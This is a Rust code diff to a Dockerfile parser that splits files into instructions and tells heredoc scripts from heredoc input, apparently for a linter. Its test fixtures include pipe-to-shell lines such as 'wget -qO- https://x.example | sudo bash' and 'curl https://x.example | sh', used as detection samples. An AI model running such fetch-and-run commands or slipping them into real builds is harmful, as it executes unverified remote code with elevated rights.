@@ -131,16 +131,20 @@ impl<'text> Build<'text> {
 }
 
 /// An instruction with all its lines.
-pub(super) struct Instruction<'text> {
-    pub(super) name: &'text str,
+#[derive(Debug)]
+pub struct Instruction<'text> {
+    /// Where it begins.
+    pub start: usize,
+    /// Its name, as it is written.
+    pub name: &'text str,
     /// What follows the name; the lines below where there are heredocs.
-    pub(super) script: Range<usize>,
+    pub script: Range<usize>,
     /// The words that follow, with where they begin; of the first line's continuation, too.
-    pub(super) words: Vec<(usize, &'text str)>,
+    pub words: Vec<(usize, &'text str)>,
 }
 
 /// Splits a Dockerfile into its instructions.
-pub(super) fn instructions(text: &str, escape: char) -> Vec<Instruction<'_>> {
+pub fn instructions(text: &str, escape: char) -> Vec<Instruction<'_>> {
     let mut found = Vec::new();
     let mut lines = Lines { text, at: 0 };
     while let Some(line) = lines.next() {
@@ -161,8 +165,13 @@ pub(super) fn instructions(text: &str, escape: char) -> Vec<Instruction<'_>> {
             }
         }
         let own = start + name.len()..end;
-        let delimiters = delimiters(text.get(own.clone()).unwrap_or_default());
-        let begin = if delimiters.is_empty() { own.start } else { end };
+        let given = text.get(own.clone()).unwrap_or_default();
+        let delimiters = delimiters(given);
+        // A heredoc that nothing but a shell reads is the script; one of another program is its input.
+        let first = given.split_whitespace().find(|word| !word.starts_with("--") && !word.chars().eq([escape]));
+        let first = first.unwrap_or_default();
+        let is_script = first.starts_with("<<") || matches!(first, "sh" | "bash" | "/bin/sh" | "/bin/bash");
+        let begin = if delimiters.is_empty() || !is_script { own.start } else { end };
         for delimiter in delimiters {
             let is_end = |line: &Range<usize>| {
                 text.get(line.clone()).is_some_and(|line| line.trim_start_matches('\t').trim_end() == delimiter)
@@ -171,13 +180,13 @@ pub(super) fn instructions(text: &str, escape: char) -> Vec<Instruction<'_>> {
             let _closed = body.any(|line| is_end(&line));
         }
         let words = words(text, own, escape);
-        found.push(Instruction { name, script: begin..end, words });
+        found.push(Instruction { start, name, script: begin..end, words });
     }
     found
 }
 
 /// Returns the character that continues a line: a backslash, unless the file's first comments say otherwise.
-pub(super) fn escape(text: &str) -> char {
+pub fn escape(text: &str) -> char {
     let directives = text.lines().map(str::trim).take_while(|line| line.starts_with('#'));
     let mut values = directives.filter_map(|line| {
         let (name, value) = line.trim_start_matches('#').split_once('=')?;
@@ -301,6 +310,11 @@ mod tests {
                 "FROM scratch\nRUN <<EOF\nset -e\nwget -qO- https://x.example | sudo bash\nEOF\nRUN true\n",
                 vec!["wget -qO- https://x.example | sudo bash"],
             ),
+            (
+                "FROM scratch\nRUN --mount=type=bind,target=. \\\n  <<EOF\nwget -qO- https://x.example | sh\nEOF\n",
+                vec!["wget -qO- https://x.example | sh"],
+            ),
+            ("FROM scratch\nRUN cat <<EOF > /x\ncurl https://x.example | sh\nEOF\n", vec![]),
             ("FROM scratch\nRUN curl -O https://x.example && sha256sum -c x\n", vec![]),
             (
                 "# escape=`\nFROM scratch\nRUN curl https://x.example `\n | sh\n",
